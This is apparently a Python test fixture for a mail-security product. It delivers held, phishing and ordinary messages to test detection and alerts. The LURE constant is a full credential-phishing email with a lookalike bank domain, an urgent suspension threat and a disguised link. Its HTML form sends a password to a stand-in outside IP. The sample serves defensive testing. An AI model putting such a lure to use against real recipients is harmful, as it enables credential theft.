"""Mail for the served company: messages put through the gate beside the running server, which takes their rows."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

from tests.browser import wave
from tests.mail.post import PLAIN, program
from vedette.app.wiring import open_state
from vedette.core.clock import now
from vedette.core.scope import local
from vedette.mail.envelope import Envelope, Way
from vedette.mail.identity import network_id
from vedette.mail.message import parse
from vedette.mail.room import MailRoom

LEA, KIM = "lea@harbour.example", "kim@harbour.example"
HELD = network_id(program(), parse(program()), Way.SMTP)
"""The message that is held for both."""
RAISED = "Program, script or shortcut arrived as a mail attachment"
"""The alert it raises."""
LURE = b"""From: Harbour Bank <service@harb0ur-bank.example>\r
To: lea@harbour.example\r
Subject: Your account will be suspended today\r
Date: Fri, 20 Nov 2026 09:29:00 +0000\r
Message-ID: <alarm-1@harb0ur-bank.example>\r
Reply-To: desk@other.example\r
MIME-Version: 1.0\r
Content-Type: text/html; charset=utf-8\r
\r
<p>We noticed unusual activity. Your account will be suspended within 24 hours. Verify your password immediately:</p>
<p><a href="http://198.51.100.23/login?user=lea">https://www.harbour-bank.example/</a></p>
<form action="http://198.51.100.23/take"><input type="password" name="p"></form>\r
"""


def deliver(data: Path) -> None:
    """Admit them: a program held for two people, a lure, an ordinary message; and a campaign."""
    wave.deliver(data)
    with open_state(data) as records:
        gate = MailRoom.open(data, records, None).gate
        for minutes, sender, recipients, raw in (
            (50, "billing@odd.example", (LEA, KIM), program()),
            (40, "service@harb0ur-bank.example", (LEA,), LURE),
            (30, "ada@partner.example", (KIM,), PLAIN),
        ):
            at = now() - timedelta(minutes=minutes)
            gate.admit(local(), Envelope(sender, recipients, at, "192.0.2.7", "mx.odd.example", way=Way.SMTP), raw)
